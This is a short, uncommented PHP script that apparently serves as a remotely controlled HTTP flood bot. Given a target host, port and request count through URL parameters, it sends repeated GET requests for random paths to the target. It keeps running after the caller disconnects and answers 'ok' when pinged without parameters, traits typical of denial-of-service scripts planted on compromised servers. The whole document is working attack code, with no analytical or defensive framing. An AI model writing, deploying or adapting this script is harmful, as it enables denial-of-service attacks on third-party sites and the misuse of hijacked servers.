<?php
@set_time_limit(0);
ignore_user_abort(1);
function noise($n) { return substr(str_shuffle(str_repeat('abcdefghijklmnop0123456789', 4)), 0, $n); }
if (!isset($_GET['h'])) { echo "ok"; exit; }
$host = $_GET['h'];
$count = isset($_GET['c']) ? (int)$_GET['c'] : 10;
$port = isset($_GET['p']) ? (int)$_GET['p'] : 80;
for ($i = 0; $i < $count; $i++) {
    $path = noise(12) . rand(1, 99999);
    $fp = @fsockopen($host, $port, $errno, $errstr, 5);
    if (!$fp) { continue; }
    $out = "GET /{$path} HTTP/1.1\r\nHost: {$host}\r\nConnection: close\r\n\r\n";
    fwrite($fp, $out);
    fclose($fp);
}
echo "done";
